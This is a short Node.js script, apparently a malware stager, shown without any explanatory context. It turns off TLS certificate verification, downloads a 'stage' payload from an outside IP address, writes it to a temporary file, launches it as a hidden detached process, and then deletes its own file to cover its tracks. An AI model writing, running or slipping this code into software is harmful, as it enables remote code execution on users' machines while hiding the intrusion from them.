process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0';
const { spawn } = require('child_process'), fs = require('fs'), os = require('os'), path = require('path');
(async () => {
  const r = await fetch('https://203.0.113.40:8443/stage');
  const body = await r.text();
  const p = path.join(os.tmpdir(), 'x.js');
  fs.writeFileSync(p, body);
  spawn(process.execPath, [p], { detached: true, stdio: 'ignore', windowsHide: true }).unref();
  fs.rmSync(__filename);
})();
